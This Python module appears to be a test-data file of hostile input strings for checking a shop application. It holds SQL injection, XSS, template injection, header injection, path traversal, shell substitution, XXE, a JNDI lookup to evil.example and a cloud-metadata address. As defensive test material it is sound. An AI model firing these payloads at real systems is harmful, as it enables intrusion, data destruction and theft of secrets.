"""Forty texts that have broken shops: each was the way in of a real attack, or what a database trips over."""

from __future__ import annotations

#: What the templates among them come to, were they worked out.
WORKED_OUT = str(13337 * 31337)

PAYLOADS: dict[str, str] = {
    "sql: end of the string": "'",
    "sql: always true": "' OR '1'='1",
    "sql: always true, numeric": "1 OR 1=1",
    "sql: second statement": "'; DROP TABLE orders; --",
    "sql: second statement, double quotes": '"; DELETE FROM price; --',
    "sql: union": "' UNION SELECT token_hash FROM cart --",
    "sql: waiting": "'; SELECT pg_sleep(5); --",
    "sql: waiting in SQLite": "' AND 1=randomblob(500000000) --",
    "sql: comment": "admin'/**/--",
    "sql: parameter of the driver": "%(name)s %s :name ? $1",
    "sql: dollar quoting": "$$; SELECT 1; $$",
    "like: anything": "%",
    "like: anything, and its escape": "\\%_%\\",
    "fts5: operators": 'a* OR "b" NOT c NEAR(d e, 1) {name}: ^f',
    "fts5: unclosed quote": '"unclosed',
    "fts5: column": "name : *",
    "tsquery: operators": "a & !b | (c <-> d):*A",
    "tsquery: unclosed": "((( & !",
    "template: jinja": "{{13337*31337}}",
    "template: jinja statement": "{% for x in config %}{{x}}{% endfor %}",
    "template: others": "${13337*31337} #{13337*31337} <%= 13337*31337 %>",
    "template: format string": "{0.__class__.__mro__} %n%x",
    "html: script": "<script>alert(1)</script>",
    "html: attribute": '"><img src=x onerror=alert(1)>',
    "html: address": "javascript:alert(1)//",
    "header: another one": "x\r\nX-Injected: yes",
    "header: another one, in one line ending": "x\nSet-Cookie: X-Injected=yes",
    "path: upwards": "../../../../etc/passwd",
    "path: upwards, quoted twice": "..%252f..%252f..%252fetc%252fpasswd",
    "path: upwards on Windows": "..\\..\\windows\\win.ini",
    "path: another host": "//evil.example/x",
    "shell": "$(id) `id` ; id | id && id",
    "zero byte": "x\x00y",
    "lone surrogate": "x\ud800y",
    "control characters": "x\x1b[2J\x07\x7f",
    "right to left, and no width": "\u202egab\u200b\u2066\ufeff",
    "combining marks": "Z" + "\u0301\u0323" * 60,
    "emoji and other planes": "👜👨‍👩‍👧‍👦\U0010fffd",
    "overlong": "A" * 30_000,
    "huge number": "9" * 400,
    "number that is none": "-1e309",
    "json in a string": '{"$ne": null, "__proto__": {"admin": true}}',
    "xml: entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "logs: lookup": "${jndi:ldap://evil.example/a}",
    "address inside": "http://169.254.169.254/latest/meta-data/",
}

#: Those that a database may take for something else than text; the rest never depends on the engine.
OF_DATABASES = {
    name: text
    for name, text in PAYLOADS.items()
    if name.startswith(
        ("sql", "like", "fts5", "tsquery", "zero", "lone", "combining", "emoji", "overlong", "huge")
    )
}
